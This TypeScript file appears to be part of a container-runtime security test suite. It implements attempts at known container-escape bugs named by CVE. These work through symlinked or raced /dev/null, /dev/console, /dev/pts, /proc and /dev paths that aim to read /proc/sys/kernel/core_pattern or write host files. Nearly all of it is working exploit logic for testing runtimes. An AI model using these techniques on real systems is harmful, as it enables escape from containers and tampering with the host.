import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import type { Box } from '../conformance/suite/box.ts';
import { DescriptorReceiver } from '../conformance/suite/descriptor.ts';
import { Seen } from '../conformance/suite/seen.ts';
import { bind } from '../conformance/suite/spec.ts';
import { type Attempt, Swapper } from './attack.ts';

/** Starts while a neighbour works against them. */
const rounds = 12;
const secret = '/proc/sys/kernel/core_pattern';

function withoutDev(box: Box): void {
  box.spec.mounts = box.spec.mounts.filter(({ destination }) => !destination.startsWith('/dev'));
}

/** A volume on /dev whose null is a link into /proc. */
function hostileDev(box: Box): string {
  const folder = path.join(box.folder, 'dev');
  mkdirSync(path.join(folder, 'pts'), { recursive: true });
  withoutDev(box);
  box.spec.mounts.push(bind(folder, '/dev'));
  return folder;
}

/** What of the masked file can be read; undefined when it is the mask, or nothing was started. */
async function readMasked(box: Box): Promise<string | undefined> {
  box.spec.linux.maskedPaths = ['/work/file'];
  box.spec.process.args = ['/probe', 'read /work/file', 'stat /work/file'];
  const { code, stdout } = await box.run();
  if (code !== 0) return undefined;
  const seen = new Seen(stdout);
  const stat = seen.of<{ type: string; major: number; minor: number }>('stat /work/file');
  if (stat.type === 'c' && stat.major === 1 && stat.minor === 3) return undefined;
  return `the masked file is ${stat.type} with ${JSON.stringify(seen.of('read /work/file'))}`;
}

export const redirectionAttempts: readonly Attempt[] = [
  {
    name: 'CVE-2025-31133: /dev/null is a link into /proc when paths are masked',
    works: 'always',
    run: async (runtime, armoury) => {
      await using box = armoury.box(runtime);
      symlinkSync(secret, path.join(hostileDev(box), 'null'));
      return await readMasked(box);
    },
  },
  {
    name: 'CVE-2025-31133: /dev/null becomes a link into /proc while paths are masked',
    works: 'by luck',
    run: async (runtime, armoury) => {
      await using box = armoury.box(runtime);
      const folder = hostileDev(box);
      symlinkSync(secret, path.join(folder, 'link'));
      // The runtime makes the device here in the first start.
      await readMasked(box);
      if (!existsSync(path.join(folder, 'null'))) writeFileSync(path.join(folder, 'null'), '');
      await using _ = new Swapper(armoury, [path.join(folder, 'null'), path.join(folder, 'link')]);
      for (let round = 0; round < rounds; round++) {
        const loot = await readMasked(box);
        if (loot !== undefined) return loot;
      }
      return undefined;
    },
  },
  {
    name: 'CVE-2025-52565: /dev/console and /dev/pts are links when the console is bound',
    run: async (runtime, armoury) => {
      await using box = armoury.box(runtime);
      const folder = hostileDev(box);
      const victim = path.join(box.folder, 'victim');
      writeFileSync(victim, 'untouched');
      symlinkSync(victim, path.join(folder, 'console'));
      const devpts = {
        destination: '/dev/pts',
        type: 'devpts',
        source: 'devpts',
        options: ['newinstance', 'ptmxmode=0666'],
      };
      box.spec.mounts.push(devpts);
      box.spec.process.terminal = true;
      box.spec.process.args = ['/probe', 'read /proc/self/mountinfo'];
      await using receiver = await DescriptorReceiver.open(box, 'terminal');
      await box.run({ flags: ['--detach', '--console-socket', receiver.socket] });
      return readFileSync(victim, 'utf8') === 'untouched' ? undefined : 'the file of the host was written';
    },
  },
  {
    name: 'CVE-2025-52565: /dev/pts becomes a link into /proc while the console is bound',
    run: async (runtime, armoury) => {
      await using box = armoury.box(runtime);
      const folder = hostileDev(box);
      symlinkSync('/proc/sys/kernel', path.join(folder, 'elsewhere'));
      const devpts = {
        destination: '/dev/pts',
        type: 'devpts',
        source: 'devpts',
        options: ['newinstance', 'ptmxmode=0666'],
      };
      box.spec.mounts.push(devpts);
      box.spec.process.terminal = true;
      box.spec.process.args = ['/probe', 'stat /dev/console', 'read /proc/self/mountinfo'];
      await using _ = new Swapper(armoury, [path.join(folder, 'pts'), path.join(folder, 'elsewhere')]);
      for (let round = 0; round < rounds; round++) {
        const receiver = await DescriptorReceiver.open(box, 'terminal');
        const { code } = await box.run({ flags: ['--detach', '--console-socket', receiver.socket] });
        if (code === 0) await receiver.until('}\r\n');
        const line = receiver.text.split('\n').find((each) => each.startsWith('{"stat'));
        await receiver[Symbol.asyncDispose]();
        await box.call(['delete', '--force', box.id]);
        rmSync(receiver.socket, { force: true });
        const target =
          line === undefined ? undefined : new Seen(line).mounts.find((mount) => mount.target === '/dev/console');
        if (target !== undefined && target.type !== 'devpts') return `/dev/console is a ${target.type}: ${target.root}`;
      }
      return undefined;
    },
  },
  {
    name: 'CVE-2025-52881: /proc of the image is a folder of files that take the writes',
    works: 'by luck',
    run: async (runtime, armoury) => {
      await using box = armoury.box(runtime);
      const fake = path.join(box.rootfs, 'fake');
      mkdirSync(path.join(fake, 'sys/net/ipv4'), { recursive: true });
      writeFileSync(path.join(fake, 'sys/net/ipv4/ip_forward'), 'untouched');
      rmSync(path.join(box.rootfs, 'proc'), { recursive: true });
      mkdirSync(path.join(box.rootfs, 'proc'));
      symlinkSync('fake', path.join(box.rootfs, 'other'));
      box.spec.linux.sysctl = { 'net.ipv4.ip_forward': '1' };
      box.spec.process.args = ['/probe', 'cwd'];
      await using _ = new Swapper(armoury, [path.join(box.rootfs, 'proc'), path.join(box.rootfs, 'other')]);
      for (let round = 0; round < rounds; round++) {
        await box.run();
        const text = readFileSync(path.join(fake, 'sys/net/ipv4/ip_forward'), 'utf8');
        if (text !== 'untouched') return `the sysctl went into a file: ${text}`;
      }
      return undefined;
    },
  },
  {
    name: 'CVE-2026-41579: /dev of the image is a link to a folder of the host',
    works: 'always',
    run: async (runtime, armoury) => {
      await using box = armoury.box(runtime);
      const victim = path.join(box.folder, 'victim');
      mkdirSync(victim);
      writeFileSync(path.join(victim, 'ptmx'), 'of the host');
      rmSync(path.join(box.rootfs, 'dev'), { recursive: true });
      symlinkSync(victim, path.join(box.rootfs, 'dev'));
      withoutDev(box);
      box.spec.process.args = ['/probe', 'cwd'];
      await box.run();
      const names = readdirSync(victim).join(' ');
      return names === 'ptmx' && readFileSync(path.join(victim, 'ptmx'), 'utf8') === 'of the host'
        ? undefined
        : `the folder of the host has ${names}`;
    },
  },
];
